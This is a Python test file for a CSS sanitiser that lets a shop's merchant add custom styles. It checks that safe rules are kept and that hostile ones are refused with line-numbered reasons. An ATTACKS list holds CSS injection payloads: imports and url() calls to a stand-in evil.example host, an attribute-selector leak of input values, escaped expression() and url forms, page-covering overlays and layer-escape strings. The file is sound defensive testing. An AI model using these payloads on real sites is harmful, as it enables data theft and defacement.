"""R31, T91: a merchant's own rules can change how the shop looks, and nothing else."""

from uuid import UUID

import pytest

from shared.kernel.errors import Invalid
from shared.look.custom_css import LONGEST, WrongRules, clean_css

STORE = UUID(int=1)
OWN = f"/media/stores/{STORE}/pictures/a.webp"
OTHER = f"/media/stores/{UUID(int=2)}/pictures/a.webp"


def cleaned(written: str) -> str:
    return " ".join(clean_css(written, STORE).split())


@pytest.mark.parametrize(
    ("written", "kept"),
    [
        ("", ""),
        ("h1{color:red}", "@layer own { h1 { color: red; } }"),
        ("h1{color:red", "@layer own { h1 { color: red; } }"),
        (".card{&:hover{gap:1rem}}", "@layer own { .card { &:hover { gap: 1rem; } } }"),
        ("@media (width>900px){h1{gap:0}}", "@layer own { @media (width>900px) { h1 { gap: 0; } } }"),
        (f"a{{background:url({OWN})}}", f"@layer own {{ a {{ background: url({OWN}); }} }}"),
        (f'a{{background:url("{OWN}")}}', f'@layer own {{ a {{ background: url("{OWN}"); }} }}'),
        (
            "a{--gap:calc(1px + 2px);gap:var(--gap)}",
            "@layer own { a { --gap: calc(1px + 2px); gap: var(--gap); } }",
        ),
        ("@keyframes k{from{opacity:0}}", "@layer own { @keyframes k { from { opacity: 0; } } }"),
        ("/* x */ a { position: relative }", "@layer own { a { position: relative; } }"),
    ],
)
def test_what_is_harmless_is_kept_in_a_layer_of_its_own(written: str, kept: str):
    assert cleaned(written) == kept


ATTACKS = {
    "import": "@import 'https://evil.example/a.css';",
    "import by url": "@import url(https://evil.example/a.css);",
    "import within": "@media screen { @import url(a.css); }",
    "charset": "@charset 'utf-7';",
    "font of others": "@font-face { font-family: x; src: url(https://evil.example/f) }",
    "layer before ours": "@layer reset { a { color: red } }",
    "property": "@property --x { syntax: '*'; inherits: true }",
    "namespace": "@namespace 'x';",
    "page": "@page { margin: 0 }",
    "foreign picture": "a { background: url(https://evil.example/p) }",
    "foreign picture in quotes": 'a { background: url("//evil.example/p") }',
    "escaped url": r"a { background: u\72l(https://evil.example/p) }",
    "another store's picture": f"a {{ background: url({OTHER}) }}",
    "climbing": f"a {{ background: url(/media/stores/{STORE}/../x) }}",
    "data": "a { background: url(data:image/svg+xml,x) }",
    "src()": "a { background: src('https://evil.example/p') }",
    "image-set": "a { background: image-set('https://evil.example/p' 1x) }",
    "image()": "a { background: image('https://evil.example/p') }",
    "cross-fade": "a { background: cross-fade(url(a), url(b)) }",
    "url in a custom property": "a { --x: url(https://evil.example/p) }",
    "url in a fallback": "a { background: var(--x, url(https://evil.example/p)) }",
    "url in a selector's argument": "a:not(url(https://evil.example/p)) { color: red }",
    "url in a condition": "@supports (background: url(https://evil.example/p)) { a { color: red } }",
    "attribute leak": "input[value^=a] { background: url(https://evil.example/a) }",
    "attr()": "a { content: attr(href) }",
    "expression": "a { width: expression(alert(1)) }",
    "escaped expression": r"a { width: e\78pression(alert(1)) }",
    "behavior": "a { behavior: url(x.htc) }",
    "moz-binding": "a { -moz-binding: url(x.xml#y) }",
    "filter of old": "a { filter: progid:DXImageTransform.Microsoft.Alpha(opacity=0) }",
    "overlay": "div { position: fixed; inset: 0 }",
    "escaped overlay": r"div { position: \66ixed }",
    "overlay by a variable": "div { --p: fixed; position: var(--p) }",
    "sticky": "div { position: sticky }",
    "over the theme's own": "a { color: red !important }",
    "closing our layer": "} } body { display: none }",
    "brace in a value": "a { --x: { } }",
    "bad string": "a { content: 'x\n }",
    "bad url": "a { background: url(a b) }",
    "all": "a { all: unset }",
    "unknown": "a { -webkit-user-modify: read-write }",
    "deep": "a{" * 30 + "}" * 30,
    "brackets without end": "(" * 20_000,
    "long": "a{color:red}" * LONGEST,
}


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS.keys())
def test_what_could_harm_is_refused(attack: str):
    with pytest.raises(Invalid) as refused:
        clean_css(attack, STORE)

    assert set(refused.value.fields) == {"css"}


@pytest.mark.parametrize(
    ("written", "wrong"),
    [
        (
            "a { color: red }\nb { behavior: x }\n\n@import 'x';",
            [(2, "property", "behavior"), (4, "at-rule", "import")],
        ),
        ("a { content: 'x\n }", [(1, "unreadable", "")]),
        ("@media screen { color: red; }", [(1, "unreadable", "")]),
        ("a { color: red !important }", [(1, "important", "")]),
        ("\na { position: fixed }", [(2, "position", "")]),
        ("a { width: expression(1) }", [(1, "function", "expression")]),
        ("a { --x: { } }", [(1, "brace", "")]),
        ("a { background: url(https://evil.example/p) }", [(1, "address", "")]),
        (f"a {{ {'x' * 90}: 1 }}", [(1, "property", "x" * 40)]),
    ],
)
def test_what_is_wrong_is_a_fact_with_its_line(written: str, wrong: list[tuple[int, str, str]]):
    with pytest.raises(WrongRules) as refused:
        clean_css(written, STORE)

    assert [(rule.line, rule.why, rule.name) for rule in refused.value.wrong] == wrong


def test_all_that_is_wrong_is_counted_and_the_first_of_it_named():
    with pytest.raises(WrongRules) as refused:
        clean_css("a { behavior: x }\n" * 7, STORE)

    assert [rule.line for rule in refused.value.wrong] == [1, 2, 3, 4, 5]
    assert refused.value.fields == {"css": "7 things in these rules cannot be used."}
